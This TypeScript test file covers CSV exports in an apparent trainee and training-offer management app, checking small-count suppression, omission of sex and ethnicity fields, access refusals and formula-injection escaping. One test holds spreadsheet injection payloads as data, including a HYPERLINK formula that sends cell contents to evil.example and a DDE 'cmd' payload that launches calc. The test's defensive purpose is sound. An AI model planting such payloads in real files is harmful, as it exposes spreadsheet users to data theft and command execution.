import { participationRow, placementRow, seedRows, traineeRow } from '@ldm/db/testing';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { databaseWithUsers } from '../testing/database-with-users';

const rowsOf = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];

describe('CSV exports', () => {
  const suite = databaseWithUsers();
  const as = suite.as;

  beforeAll(async () => {
    const gmcs = Array.from({ length: 9 }, (_, i) => String(2000000 + i));
    await seedRows(suite.db, {
      organisations: [{ code: 'RNE', name: 'Tyneside, "North"', type: 'trust', locality_code: 'NE' }],
      trainees: gmcs.map((gmc) =>
        traineeRow(gmc, {
          forenames: 'A',
          surname: `S${gmc}`,
          sex: 'male',
          ethnic_group: 'asian',
          qualification: 'uk',
        }),
      ),
      placements: gmcs.map((gmc) =>
        placementRow(gmc, 'RNE', 'F1', { start_date: '2024-08-01', end_date: '2025-07-31' }),
      ),
    });
    const lead = as(suite.users.lead);
    await lead.offer.create({
      localityCode: 'NE',
      offer: {
        code: 'NE1',
        title: 'Learn to Lead',
        provider: 'NE academy',
        scope: 'NE',
        tier: 1,
        stages: ['foundation'],
      },
    });
    await lead.offer.createCohort({
      localityCode: 'NE',
      cohort: { code: 'NE1-A', offerCode: 'NE1', startDate: '2024-09-01', endDate: '2025-03-31', places: 12 },
    });
    await seedRows(suite.db, {
      participations: gmcs.slice(0, 3).map((gmc) => participationRow(gmc, 'NE1-A', '2024-09-01')),
    });
  });

  it('suppresses a fill of 3 in an export even for the own locality, which sees 3 on screen', async () => {
    const lead = as(suite.users.lead);
    expect((await lead.offer.get({ localityCode: 'NE', code: 'NE1' })).cohorts[0]!.filled).toBe(3);
    const file = await lead.export.offers({ localityCode: 'NE' });
    expect(file.fileName).toBe('offers-NE.csv');
    expect(rowsOf(file.csv)).toEqual([
      {
        code: 'NE1',
        title: 'Learn to Lead',
        provider: 'NE academy',
        scope: 'NE',
        tier: '1',
        stages: 'foundation',
        interventions: '',
        mode: '',
        capacity: '',
        cohorts: '1',
        places: '12',
        filled: '*',
      },
    ]);
  });

  it('exports trainees without sex, ethnic group or qualification, quoting commas', async () => {
    const file = await as(suite.users.dean).export.trainees({ localityCode: 'NE', sort: 'gmcNumber' });
    const rows = rowsOf(file.csv);
    expect(rows).toHaveLength(9);
    expect(rows[0]).toEqual({
      gmc_number: '2000000',
      forenames: 'A',
      surname: 'S2000000',
      grade: 'F1',
      stage: 'foundation',
      specialty: '',
      organisation_code: 'RNE',
      organisation: 'Tyneside, "North"',
      start_date: '2024-08-01',
      end_date: '2025-07-31',
    });
    await expect(as(suite.users.national).export.trainees({ localityCode: 'NE' })).rejects.toMatchObject({
      code: 'FORBIDDEN',
    });
  });

  it('refuses a period that does not exist', async () => {
    await expect(as(suite.users.dean).export.measures({ period: '2024-26' })).rejects.toMatchObject({
      code: 'BAD_REQUEST',
    });
  });

  it('neutralises formulas a locality user typed into an offer or an import put into a trainee', async () => {
    const lead = as(suite.users.lead);
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")';
    await lead.offer.create({
      localityCode: 'NE',
      offer: { code: 'NE2', title, provider: '@SUM(1+1)', scope: 'NE', tier: 2, stages: ['core'] },
    });
    await suite.db
      .updateTable('trainees')
      .set({ surname: "+cmd|' /C calc'!A0" })
      .where('gmc_number', '=', '2000001')
      .execute();
    try {
      const offer = rowsOf((await lead.export.offers({ localityCode: 'NE' })).csv).find((r) => r.code === 'NE2');
      expect(offer).toMatchObject({ title: `'${title}`, provider: "'@SUM(1+1)", tier: '2' });
      const trainees = rowsOf((await lead.export.trainees({ localityCode: 'NE', sort: 'gmcNumber' })).csv);
      expect(trainees[1]).toMatchObject({ gmc_number: '2000001', surname: "'+cmd|' /C calc'!A0" });
    } finally {
      await lead.offer.delete({ localityCode: 'NE', code: 'NE2' });
      await suite.db.updateTable('trainees').set({ surname: 'S2000001' }).where('gmc_number', '=', '2000001').execute();
    }
  });
});
